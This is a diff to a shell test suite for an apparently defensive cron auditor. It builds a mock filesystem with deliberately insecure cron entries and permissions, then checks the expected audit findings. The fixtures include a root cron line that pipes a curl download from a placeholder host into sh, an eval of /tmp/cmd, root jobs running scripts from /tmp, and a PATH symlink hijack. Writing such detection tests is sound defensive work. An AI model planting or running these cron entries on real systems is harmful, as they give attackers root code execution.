@@ -124,12 +124,19 @@ SHELL=/bin/zsh
 0 7 * * * root curl -s http://example.invalid/i | sh
 0 8 * * * root eval "$(cat /tmp/cmd)"
 0 9 * * * root /usr/bin/true --config=/srv/app.conf
+0 10 * * * root /tmp/cleanup.sh
+0 11 * * * root nice -n 5 tool --daily
 J
 chmod 0600 "$jobs"
 printf '#!/bin/sh\n' >"$p"/opt/tool/run; chmod 0755 "$p"/opt/tool/run
 chown 1001 "$p"/opt/tool                                   # 005: bob owns the dir
 printf 'X=1\n' >"$p"/srv/env.sh; chmod 0666 "$p"/srv/env.sh   # 009
 printf 'x=1\n' >"$p"/srv/app.conf; chown 1002 "$p"/srv/app.conf # 009 by option
+# 005 through PATH and a symbolic link: /usr/bin/tool -> /srv/bobtool (bob's)
+printf '#!/bin/sh\n' >"$p"/srv/bobtool; chown 1001 "$p"/srv/bobtool; ln -s ../../srv/bobtool "$p"/usr/bin/tool
+# cron.d link to a root file: followed, its jobs audited
+printf '0 12 * * * root /tmp/linked.sh\n' >"$p"/etc/linked-target; chmod 0600 "$p"/etc/linked-target
+ln -s ../linked-target "$p"/etc/cron.d/linked
 printf '0 1 * * * root /bin/true\n' >"$p"/etc/cron.d/owned; chown 1000 "$p"/etc/cron.d/owned; chmod 0600 "$p"/etc/cron.d/owned
 chmod 0722 "$p"/etc/cron.weekly                              # 002
 chmod 0644 "$p"/etc/crontab                                  # 003
@@ -161,6 +168,9 @@ expect CG-AUD-002 /etc/cron.weekly 0
 expect CG-AUD-003 /etc/crontab 0
 expect CG-AUD-004 /etc/cron.daily/evil 0
 expect CG-AUD-005 $J "$(line_of "$jobs" /opt/tool/run)"
+expect CG-AUD-005 $J "$(line_of "$jobs" /tmp/cleanup.sh)"
+expect CG-AUD-005 $J "$(line_of "$jobs" 'tool --daily')"
+expect CG-AUD-005 /etc/cron.d/linked 1
 expect CG-AUD-006 $J "$(line_of "$jobs" PATH=)"
 expect CG-AUD-006 $J "$(line_of "$jobs" scripts/x.sh)"
 expect CG-AUD-007 $J "$(line_of "$jobs" 'tar czf')"
